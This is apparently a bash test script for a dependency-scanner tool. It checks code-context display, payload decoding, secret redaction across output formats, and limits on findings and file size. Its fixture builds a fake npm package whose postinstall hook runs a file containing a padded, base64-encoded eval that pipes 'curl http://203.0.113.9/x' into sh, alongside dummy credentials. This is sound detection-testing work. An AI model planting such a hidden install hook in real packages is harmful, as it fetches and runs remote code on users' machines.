#!/bin/bash
# The code of a finding: lines around it, what it hides, cut and without secrets.
. "$PICKET_SRC/tests/cli/scanner.bash"
unset PICKET_CORPUS_DIR # the built-in corpus
mkdir -p app/node_modules/bad
cd app
echo '{"name":"app","version":"1.0.0","dependencies":{"bad":"1.0.0"}}' >package.json
echo '{"name":"bad","version":"1.0.0","scripts":{"postinstall":"node a.js"}}' >node_modules/bad/package.json
# Put together here, so that no scanner of secrets takes this file for one.
token=npm_$(printf 'a%.0s' $(seq 36))
key=$(printf 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASC%.0s' 1 2)
payload=$(printf "require('child_process').exec('curl http://203.0.113.9/x | sh')" | base64 -w 0)
{
	echo "// one"
	echo "const registry = 'https://ann:correcthorse@registry.example.com/';"
	echo "const key = \`-----BEGIN PRIVATE KEY-----"
	echo "$key"
	echo "-----END PRIVATE KEY-----\`;"
	echo "const token = '$token';"
	printf '%600s' | tr ' ' 'x' | sed 's/^/\/\/ /'
	printf '\neval(Buffer.from("%s", "base64").toString());\n' "$payload"
	echo "// last"
} >node_modules/bad/a.js
cd ..
scanner scan -q -f json -o a.json app
at() { jq -e "[.findings[] | select(.file | endswith(\"a.js\"))] | $1" a.json >out; }
say "a finding has the lines around its own" at '.[0].context | .line <= 7 and (.lines | length) > 3'
say "its own among them" at '.[0] | .context.lines[.line - .context.line] | startswith("eval(")'
say "and what it decodes" at 'any(.[]; any(.context.layers[]; (.how | contains("base64")) and (.text | contains("curl http://203.0.113.9/x"))))'
say "no line is longer than 240 bytes" at 'all(.[].context.lines[]; utf8bytelength <= 240)'
say "a line that was cut ends in an ellipsis" at 'any(.[].context.lines[]; endswith("…"))'
say "in a file of seven lines there are no more" at '.[0].context.lines | length <= 7'
for format in json html sarif ml-context table jsonl; do
	scanner scan -q -f $format -o out.$format app
	for secret in "$token" "$key" correcthorse; do
		say "$format: no secret is shown" not grep -qF "$secret" out.$format
	done
done
say "the token's kind is" grep -q 'npm_\*\*\*' out.html
say "explain shows the code" sh -c 'scanner explain --from a.json $(jq -r "[.findings[] | select(.context.layers | length > 0)][0].fingerprint" a.json) >out && grep -q "^>.*eval" out && grep -q "decoded by" out'
say "a table looks nothing up" not grep -q '"context"' out.table

say "a lockfile alone has lines too" sh -c "scanner scan -q -f json -o l.json '$PICKET_SRC/examples/incident/package-lock.json' && jq -e 'any(.findings[]; .context.lines | length == 7)' l.json"

# Ceilings, both sides: CONTEXT_FINDINGS_MAX, CONTEXT_FILE_MAX, TOKENS_LEAST, TOKENS_MOST.
lock() { # lock PACKAGES: a lockfile in which each has one thing to say
	node -e '
const p = {"": {name: "a", version: "1.0.0"}};
for (let i = 0; i < +process.argv[1]; i++)
	p["node_modules/p" + i] = {version: "1.0.0", resolved: "http://mirror.example.net/p" + i + "/-/p.tgz", integrity: "sha512-" + Buffer.alloc(64, 1).toString("base64")};
console.log(JSON.stringify({name: "a", version: "1.0.0", lockfileVersion: 3, packages: p}, null, 1));' "$1" >package-lock.json
}
shown() { scanner scan -q --rules L2-LOCK-001 --show medium -f json -o l.json package-lock.json && jq '[.findings[] | select(.context)] | length' l.json; }
lock 500
say "five hundred findings have their lines" test "$(shown)" = 500
lock 501
say "the next has none" test "$(shown)" = 500
say "but is there" test "$(jq '.findings | length' l.json)" = 501
lock 1
pad() { head -c $(($1 - $(wc -c <package-lock.json))) /dev/zero | tr '\0' ' ' >>package-lock.json; }
pad $((16 << 20))
say "a file of 16 MiB is shown" test "$(shown)" = 1
pad $(((16 << 20) + 1))
say "one byte more is not" test "$(shown)" = 0
for n in 1000 10000000; do
	say "--token-budget takes $n" gives 0 scanner scan -f ml-context --token-budget $n app
done
for n in 999 10000001 many; do
	say "--token-budget does not take $n" gives 2 scanner scan -f ml-context --token-budget $n app
done
